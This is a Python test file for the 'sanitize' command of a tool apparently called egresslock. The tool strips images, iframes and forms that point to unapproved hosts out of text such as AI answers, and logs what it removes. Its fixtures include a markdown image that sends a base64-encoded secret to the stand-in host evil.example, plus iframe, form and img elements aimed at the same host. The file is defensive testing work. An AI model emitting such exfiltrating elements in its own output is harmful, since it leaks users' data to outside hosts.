"""``egresslock sanitize`` run as a user runs it: through the console script, with pipes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from egresslock.audit import AuditQuery, open_reader

ATTACK = ("Summary.\n\n![chart](https://evil.example/c.png?d=c2VjcmV0) and "
          "[docs](https://docs.acme-corp.example/guide)\n")
SAFE = "Only text and [docs](https://docs.acme-corp.example/guide).\n"


def egresslock(*args: str, stdin: str = "", env: dict[str, str] | None = None,
               ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "egresslock", *args], input=stdin,
                          capture_output=True, text=True, timeout=60, check=False,
                          env={**os.environ, **(env or {})})


def test_stdin_to_stdout_with_audit_rows(policy_file: Path, tmp_path: Path) -> None:
    db = tmp_path / "audit.db"
    r = egresslock("sanitize", "-p", str(policy_file), "--audit", str(db), stdin=ATTACK)
    assert r.returncode == 1, r.stderr
    assert r.stdout == ("Summary.\n\nchart and [docs](<https://docs.acme-corp.example/guide>)"
                        "\n")
    assert "sanitize removed 1 URL or element; audit log" in r.stderr
    (row,) = open_reader(db).rows(AuditQuery())
    assert (row.layer, row.verdict, row.rule_id, row.host, row.path) == (
        "sanitize", "deny", "output.images", "evil.example", "/c.png")
    assert "not in output.images" in row.reason
    assert json.loads(row.extra or "{}") == {"element": "image", "format": "markdown",
                                             "source": "stdin"}


def test_nothing_removed_exits_zero_and_opens_no_log(policy_file: Path,
                                                    tmp_path: Path) -> None:
    db = tmp_path / "audit.db"
    r = egresslock("sanitize", "-p", str(policy_file), "--audit", str(db), stdin=SAFE)
    assert (r.returncode, r.stdout, r.stderr) == (0, SAFE, "")
    assert not db.exists()


def test_file_argument_and_report(policy_file: Path, tmp_path: Path) -> None:
    answer = tmp_path / "answer.md"
    answer.write_text(ATTACK, encoding="utf-8")
    r = egresslock("sanitize", "-p", str(policy_file), "--no-audit", "--report", str(answer))
    assert r.returncode == 1
    assert "egresslock: removed image to evil.example/c.png: host evil.example" in r.stderr
    assert "audit log" not in r.stderr


def test_json_report_never_prints_the_query(policy_file: Path) -> None:
    r = egresslock("sanitize", "-p", str(policy_file), "--no-audit", "--json", stdin=ATTACK)
    first = json.loads(r.stderr.splitlines()[0])
    assert first == {"element": "image", "rule": "output.images", "host": "evil.example",
                     "path": "/c.png", "secret": False, "verdict": "deny",
                     "reason": "host evil.example is not in output.images"}
    assert "c2VjcmV0" not in r.stderr


def test_html_by_suffix_and_by_sniffing(policy_file: Path, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text('<p>x<iframe src="https://evil.example/"></iframe></p>', encoding="utf-8")
    r = egresslock("sanitize", "-p", str(policy_file), "--no-audit", str(page))
    assert r.stdout == "<p>x</p>"
    r = egresslock("sanitize", "-p", str(policy_file), "--no-audit",
                   stdin="<!DOCTYPE html><html><body><form action=https://evil.example/>"
                         "<input></form>ok</body></html>")
    assert r.stdout == "ok"
    r = egresslock("sanitize", "-p", str(policy_file), "--no-audit", "--format", "markdown",
                   str(page))
    assert r.stdout == "<p>x</p>"


def test_forced_html_format_on_stdin(policy_file: Path) -> None:
    r = egresslock("sanitize", "-p", str(policy_file), "--no-audit", "--format", "html",
                   stdin="text <b>bold</b> <img src=https://evil.example/x>")
    assert r.stdout == "text <b>bold</b> "


def test_bad_policy_and_missing_file_exit_two(tmp_path: Path, policy_file: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("version: 1\noutput: {images: [{host: '*'}]}\n", encoding="utf-8")
    r = egresslock("sanitize", "-p", str(bad), stdin=SAFE)
    assert r.returncode == 2
    assert "bad.yaml" in r.stderr
    r = egresslock("sanitize", "-p", str(policy_file), str(tmp_path / "missing.md"))
    assert r.returncode == 2
    assert "does not exist" in r.stderr


def test_unwritable_audit_log_exits_two(policy_file: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    r = egresslock("sanitize", "-p", str(policy_file), "--audit", str(blocker / "a.db"),
                   stdin=ATTACK)
    assert r.returncode == 2
    assert "egresslock:" in r.stderr


def test_report_mode_passes_the_input_and_logs_report_rows(tmp_path: Path,
                                                           policy_file: Path) -> None:
    report = tmp_path / "report.yaml"
    report.write_text(policy_file.read_text().replace("version: 1\n",
                                                      "version: 1\nmode: report\n"))
    db = tmp_path / "audit.db"
    r = egresslock("sanitize", "-p", str(report), "--audit", str(db), stdin=ATTACK)
    assert (r.returncode, r.stdout) == (1, ATTACK)
    assert "would remove 1" in r.stderr
    assert [row.verdict for row in open_reader(db).rows(AuditQuery())] == ["report"]


def test_stdin_is_streamed(policy_file: Path) -> None:
    """Output for a finished block arrives while stdin is still open."""
    proc = subprocess.Popen([sys.executable, "-m", "egresslock", "sanitize", "-p",
                             str(policy_file), "--no-audit"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdin is not None
    assert proc.stdout is not None
    try:
        proc.stdin.write(b"First ![x](https://evil.example/a.png)\n\nSecond")
        proc.stdin.flush()
        assert proc.stdout.read(len(b"First x\n\n")) == b"First x\n\n"
        proc.stdin.write(b" block.\n")
        proc.stdin.close()
        assert proc.stdout.read() == b"Second block.\n"
        assert proc.wait(timeout=30) == 1
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
